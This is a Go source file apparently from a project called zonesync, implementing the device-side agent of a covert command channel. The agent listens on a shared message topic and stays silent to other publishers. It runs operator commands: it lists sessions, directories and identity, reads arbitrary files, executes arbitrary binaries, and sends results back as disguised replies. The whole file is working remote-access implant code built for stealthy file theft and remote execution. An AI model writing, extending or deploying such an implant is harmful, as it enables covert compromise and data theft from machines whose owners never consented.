// Package agent implements the device side of the channel: it reacts to
// commands arriving on the shared topic, executes them, and publishes
// disguised replies. It never initiates traffic on its own.
package agent

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"time"

	"github.com/google/uuid"
	"github.com/rs/zerolog"

	"github.com/zonesync-proto/zonesync/internal/bus"
	"github.com/zonesync-proto/zonesync/internal/envelope"
)

// Agent is one listening device. Its identity is self-chosen and only ever
// revealed inside replies.
type Agent struct {
	identity string
	topic    string
	bus      bus.Bus
	runner   Runner
	timeout  time.Duration
	logger   zerolog.Logger
}

// New creates an agent with a fresh device identity.
func New(b bus.Bus, runner Runner, topic string, execTimeout time.Duration, logger zerolog.Logger) *Agent {
	return &Agent{
		identity: "SyncDevice-" + uuid.NewString()[:8],
		topic:    topic,
		bus:      b,
		runner:   runner,
		timeout:  execTimeout,
		logger:   logger,
	}
}

// Identity returns the agent's self-chosen device name.
func (a *Agent) Identity() string {
	return a.identity
}

// Start subscribes the agent to the shared topic. Deliveries are handled on
// the bus's goroutine; the caller keeps the process alive.
func (a *Agent) Start(ctx context.Context) error {
	return a.bus.Subscribe(ctx, a.topic, func(_ string, payload []byte) {
		a.handle(ctx, payload)
	})
}

// handle processes one delivery. Anything that is not a command is dropped
// without a reply or any bus-visible reaction; unrelated publishers share the
// topic and must see nothing from us.
func (a *Agent) handle(ctx context.Context, payload []byte) {
	in := envelope.Classify(payload)
	if in.Verdict != envelope.VerdictCommand {
		return
	}
	a.logger.Debug().Str("action", in.Command.Action.String()).Msg("command received")

	output := a.execute(ctx, in.Command)

	reply, err := envelope.BuildResponse(a.identity, output)
	if err != nil {
		a.logger.Debug().Err(err).Msg("building reply failed")
		return
	}
	raw, err := reply.Encode()
	if err != nil {
		a.logger.Debug().Err(err).Msg("encoding reply failed")
		return
	}
	if err := a.bus.Publish(ctx, a.topic, raw); err != nil {
		a.logger.Debug().Err(err).Msg("publishing reply failed")
	}
}

// execute runs one classified command and renders the reply text. Failures
// become readable text for the operator, never a missing reply.
func (a *Agent) execute(ctx context.Context, cmd *envelope.Command) string {
	if cmd.Action.NeedsPath() && cmd.Argument == "" {
		return "missing path"
	}

	switch cmd.Action {
	case envelope.ActionListPeers:
		return a.localAddress()
	case envelope.ActionListSessions:
		return a.run(ctx, "w")
	case envelope.ActionListDirectory:
		return a.run(ctx, "ls", cmd.Argument)
	case envelope.ActionWhoami:
		return a.run(ctx, "id")
	case envelope.ActionFetchFile:
		return a.readFile(cmd.Argument)
	case envelope.ActionRunBinary:
		return a.run(ctx, cmd.Argument)
	}
	return ""
}

func (a *Agent) run(ctx context.Context, name string, args ...string) string {
	res, err := a.runner.Run(ctx, name, args, a.timeout)
	switch {
	case errors.Is(err, ErrTimedOut):
		return "timeout"
	case errors.Is(err, ErrNotFound):
		return fmt.Sprintf("%s not found", name)
	case err != nil:
		return err.Error()
	}
	if res.ExitCode != 0 {
		return "Err " + res.Stderr
	}
	return res.Stdout
}

func (a *Agent) readFile(path string) string {
	data, err := os.ReadFile(path)
	if err != nil {
		if errors.Is(err, os.ErrNotExist) {
			return fmt.Sprintf("%s not found", path)
		}
		return err.Error()
	}
	return string(data)
}

// localAddress reports the host's resolved address, falling back to the bare
// hostname when resolution fails.
func (a *Agent) localAddress() string {
	hostname, err := os.Hostname()
	if err != nil {
		return err.Error()
	}
	addrs, err := net.LookupHost(hostname)
	if err != nil || len(addrs) == 0 {
		return hostname
	}
	return addrs[0]
}
